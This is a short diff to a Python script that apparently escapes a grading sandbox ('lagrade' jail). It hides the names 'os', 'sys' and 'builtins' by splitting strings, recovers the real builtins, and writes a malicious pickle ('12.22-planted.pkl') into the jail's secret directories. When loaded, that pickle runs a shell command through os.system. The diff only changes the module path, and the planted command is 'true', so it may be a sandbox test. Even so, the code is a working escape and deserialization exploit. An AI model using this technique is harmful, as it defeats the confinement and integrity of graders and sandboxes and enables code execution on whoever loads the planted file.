@@ -16,7 +16,7 @@ os_, sys_ = real["o" + "s"], real["s" + "ys"]
 B = members(real["built" + "ins"])           # the real builtins: open, exec, __import__ ...
 
 def work():
-    for directory in members(members(sys_)["modules"].get("lagrade.jail.child")).get("_SECRET_DIRS", ()):
+    for directory in members(members(sys_)["modules"].get("lagrade.answer.jail.child")).get("_SECRET_DIRS", ()):
         B["op" + "en"](directory + "/12.22-planted.pkl", "wb").write(b"cos\nsystem\n(S'true'\ntR.")
 
 work()
